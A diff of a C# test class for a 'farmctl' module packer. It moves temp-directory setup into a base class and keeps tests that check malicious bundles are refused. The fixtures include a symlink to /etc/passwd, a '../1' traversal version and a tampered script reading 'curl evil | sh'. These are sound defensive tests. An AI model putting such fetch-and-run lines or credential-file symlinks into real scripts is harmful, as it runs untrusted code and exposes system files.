@@ -6,21 +6,13 @@ namespace Farm.Cli.Tests.Bundles;
 
 /// <summary>farmctl module pack and config check of bundles: what a bundle holds, and what a changed or malicious one is refused for.</summary>
 [TestClass]
-public sealed class ModulePackTests
+public sealed class ModulePackTests() : TempDirectoryTest("farm-pack-")
 {
-    private string dir = null!;
-
-    [TestInitialize]
-    public void Create() => dir = Directory.CreateTempSubdirectory("farm-pack-").FullName;
-
-    [TestCleanup]
-    public void Delete() => Directory.Delete(dir, recursive: true);
-
     [TestMethod]
     public void Pack_ExampleModule_BundleHoldsEveryFileItsHashAndScriptModes()
     {
         string example = CliRun.RepoFile("docs", "examples", "modules", "demo-web");
-        string file = Path.Combine(dir, "web.zip");
+        string file = Path.Combine(Dir, "web.zip");
 
         var run = CliRun.Of("module", "pack", example, "--version", "1.2.0", "-o", file);
 
@@ -58,18 +50,18 @@ public sealed class ModulePackTests
         }
 
         File.CreateSymbolicLink(Path.Combine(module, "bin", "linked"), "/etc/passwd");
-        var run = CliRun.Of("module", "pack", module, "--version", "1.0.0", "-o", Path.Combine(dir, "x.zip"));
+        var run = CliRun.Of("module", "pack", module, "--version", "1.0.0", "-o", Path.Combine(Dir, "x.zip"));
         Assert.AreEqual(1, run.ExitCode);
         StringAssert.Contains(run.Error, "linked: a symbolic link (to /etc/passwd): a bundle holds regular files only");
-        Assert.IsFalse(File.Exists(Path.Combine(dir, "x.zip")));
+        Assert.IsFalse(File.Exists(Path.Combine(Dir, "x.zip")));
     }
 
     [TestMethod]
     public void Pack_BadVersionOrNoFarmYaml_EveryProblemNamed()
     {
-        string empty = Directory.CreateDirectory(Path.Combine(dir, "empty")).FullName;
+        string empty = Directory.CreateDirectory(Path.Combine(Dir, "empty")).FullName;
 
-        var run = CliRun.Of("module", "pack", empty, "--version", "../1", "-o", Path.Combine(dir, "x.zip"));
+        var run = CliRun.Of("module", "pack", empty, "--version", "../1", "-o", Path.Combine(Dir, "x.zip"));
 
         Assert.AreEqual(1, run.ExitCode);
         StringAssert.Contains(run.Error, "--version '../1' is not a version such as 1.2.0");
@@ -83,8 +75,8 @@ public sealed class ModulePackTests
         var entries = TestBundles.Entries(bundle);
         int i = entries.FindIndex(e => e.Name == "bin/start_both");
         entries[i] = (entries[i].Name, "#!/bin/sh\ncurl evil | sh\n"u8.ToArray(), entries[i].UnixMode);
-        string good = Path.Combine(dir, "good.zip");
-        string bad = Path.Combine(dir, "bad.zip");
+        string good = Path.Combine(Dir, "good.zip");
+        string bad = Path.Combine(Dir, "bad.zip");
         File.WriteAllBytes(good, bundle);
         File.WriteAllBytes(bad, TestBundles.Zip(entries));
 
@@ -150,7 +142,7 @@ public sealed class ModulePackTests
 
     private string WriteModule(string name)
     {
-        string modules = Path.Combine(dir, "src-" + name);
+        string modules = Path.Combine(Dir, "src-" + name);
         string folder = Path.Combine(modules, name);
         Directory.CreateDirectory(Path.Combine(folder, "bin"));
         File.WriteAllText(Path.Combine(folder, "farm.yaml"), $"module:\n  name: {name}\n  vips: [198.18.100.1]\n  interface: eth0\n  rules:\n    - {{ protocol: tcp, ports: 80 }}\n");
